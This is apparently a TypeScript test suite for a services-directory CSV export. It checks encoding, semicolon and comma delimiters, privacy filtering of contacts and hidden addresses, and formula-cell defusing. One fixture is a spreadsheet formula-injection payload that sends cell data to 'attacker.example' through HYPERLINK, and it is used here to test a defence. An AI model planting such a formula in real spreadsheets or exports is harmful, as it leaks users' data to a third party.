import { parse } from 'csv-parse/sync';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { signedInAs, type TestActor } from '../support/accounts.js';
import { databaseModes } from '../support/testDatabase.js';
import { useTestApp } from '../support/testApp.js';

const trickyName = 'Advice; "drop-in"\nsecond line, with a comma';
const formulaFees = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';

type Row = Record<string, string>;

describe.each(databaseModes())('the services spreadsheet (%s database)', (mode) => {
  const context = useTestApp(mode);
  let member: TestActor;

  const download = (query = '', headers: Record<string, string> = {}) =>
    context.app.inject({ url: `/api/alliances/testland/exports/services.csv${query}`, headers });

  /** The rows as a spreadsheet program reads them, by header. */
  function rowsOf(body: string, delimiter: ',' | ';'): Row[] {
    return parse(body, { bom: true, columns: true, delimiter, relax_quotes: false }) as Row[];
  }

  beforeAll(async () => {
    const db = context.database.db;
    member = await signedInAs(db, 'member', 'testland');
    await db
      .updateTable('service')
      .set({ name: trickyName, fees_description: formulaFees })
      .where('name', '=', 'Alpha housing advice')
      .execute();
    await db.updateTable('service').set({ status: 'inactive' }).where('name', '=', 'Beta job coaching').execute();
    await db
      .updateTable('organization')
      .set({
        contact_person: 'Camille Private',
        contact_phone: '+33 6 11 22 33 44',
        contact_email: 'camille@gamma.example',
      })
      .where('name', '=', 'Gamma social desk')
      .execute();
    // A hidden address whose rounded public point differs from the door.
    await db
      .updateTable('location')
      .set({ geog: sql`ST_SetSRID(ST_MakePoint(-0.58123, 44.64371), 4326)::geography` })
      .where('address_1', '=', '3 impasse Discrète')
      .execute();
    // The housing advice is also given at a second place of Centre Alpha.
    const alpha = await db
      .selectFrom('organization')
      .select('id')
      .where('name', '=', 'Centre Alpha')
      .executeTakeFirstOrThrow();
    const annex = await db
      .insertInto('location')
      .values({
        organization_id: alpha.id,
        name: 'Annexe',
        address_1: '1 place du Marché',
        city: 'Bègles',
        postal_code: '33130',
        geog: sql<string>`ST_SetSRID(ST_MakePoint(-0.55, 44.81), 4326)::geography`,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const housing = await db
      .selectFrom('service')
      .select('id')
      .where('name', '=', trickyName)
      .executeTakeFirstOrThrow();
    await db.insertInto('service_at_location').values({ service_id: housing.id, location_id: annex.id }).execute();
  });

  it('is a UTF-8 file with a byte order mark, named, to download', async () => {
    const response = await download();
    expect(response.statusCode, response.body).toBe(200);
    expect([...response.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toBe('attachment; filename="testland-services.csv"');
    expect(response.body).toContain('Bègles');
  });

  it('gives one row per service and place, and round-trips a cell with separators, quotes and a line break', async () => {
    const rows = rowsOf((await download()).body, ',');
    expect(rows.map((row) => `${row.Service} @ ${row.Town}`)).toEqual([
      `${trickyName} @ Bordeaux`,
      `${trickyName} @ Bègles`,
      'Alpha football club @ Bordeaux',
      'Gamma social desk @ Langon',
    ]);
    expect(rows[0]).toMatchObject({
      Organisation: 'Centre Alpha',
      Category: 'social_action',
      Topics: 'housing',
      Audiences: 'asylum_seekers; undocumented',
      Languages: 'fr; ar',
      Address: '12 rue des Essais',
      'Postal code': '33000',
      Latitude: '44.84',
      Longitude: '-0.58',
      // A leading + is a formula sign to a spreadsheet: the phone number is kept as text.
      Phone: "'+33 5 00 00 00 01",
      'Opening hours': 'Mo-Fr 09:00-12:00,14:00-17:00',
      Free: 'yes',
      Status: 'active',
      'Web address': 'https://alpha.example.org/',
    });
    expect(rows[0]!['Last update']).toMatch(/^\d{4}-\d{2}-\d{2}T/);
  });

  it('gives the same cells with semicolons, for French-locale spreadsheets', async () => {
    const semicolon = await download('?separator=semicolon');
    expect(semicolon.statusCode).toBe(200);
    expect(semicolon.body.split('\r\n')[0]).toMatch(/^\uFEFFService id;Service;Organisation;/);
    expect(rowsOf(semicolon.body, ';')).toEqual(rowsOf((await download('?separator=comma')).body, ','));
  });

  it('defuses a formula-like cell', async () => {
    for (const [query, delimiter] of [
      ['', ','],
      ['?separator=semicolon', ';'],
    ] as const) {
      const rows = rowsOf((await download(query)).body, delimiter);
      expect(rows.filter((row) => row.Service === trickyName).map((row) => row.Fees)).toEqual([
        `'${formulaFees}`,
        `'${formulaFees}`,
      ]);
    }
  });

  it('gives the public active services only, no personal contact, and hidden addresses without the door', async () => {
    const response = await download();
    const rows = rowsOf(response.body, ',');
    expect(rows.map((row) => row.Service)).not.toContain('Beta job coaching');
    expect(Object.keys(rows[0]!)).not.toContain('Contact person');
    expect(response.body).not.toMatch(/Camille|\+33 6 11|camille@/);
    expect(response.body).not.toContain('impasse');
    const gamma = rows.find((row) => row.Service === 'Gamma social desk')!;
    expect(gamma).toMatchObject({
      Address: '',
      'Postal code': '',
      Town: 'Langon',
      Latitude: '44.64',
      Longitude: '-0.58',
      Precision: 'town',
    });
  });

  it("gives the alliance's members everything, with the organisations' contacts", async () => {
    const rows = rowsOf((await download('', member.headers)).body, ',');
    expect(rows.find((row) => row.Service === 'Beta job coaching')).toMatchObject({ Status: 'inactive' });
    expect(rows.find((row) => row.Service === 'Gamma social desk')).toMatchObject({
      Address: '3 impasse Discrète',
      'Postal code': '33210',
      Latitude: '44.64371',
      Longitude: '-0.58123',
      'Contact person': 'Camille Private',
      'Contact phone': "'+33 6 11 22 33 44",
      'Contact email': 'camille@gamma.example',
    });
  });

  it('answers 404 for an unknown alliance and 400 for an unknown separator', async () => {
    const missing = await context.app.inject({ url: '/api/alliances/atlantis/exports/services.csv' });
    expect(missing.statusCode).toBe(404);
    expect(missing.json().message).toBe('There is no alliance "atlantis".');
    const tab = await download('?separator=tab');
    expect(tab.statusCode).toBe(400);
    expect(tab.json().message).toMatch(/separator/);
  });

  it('documents the answers with their content types', async () => {
    const document = (await context.app.inject({ url: '/docs/json' })).json();
    const csv = document.paths['/api/alliances/{slug}/exports/services.csv'].get;
    expect(csv.operationId).toBe('exportServicesCsv');
    expect(Object.keys(csv.responses['200'].content)).toEqual(['text/csv']);
    const json = document.paths['/api/alliances/{slug}/exports/data-inclusion.json'].get;
    expect(json.operationId).toBe('exportDataInclusion');
    expect(Object.keys(json.responses['200'].content)).toEqual(['application/json']);
  });
});
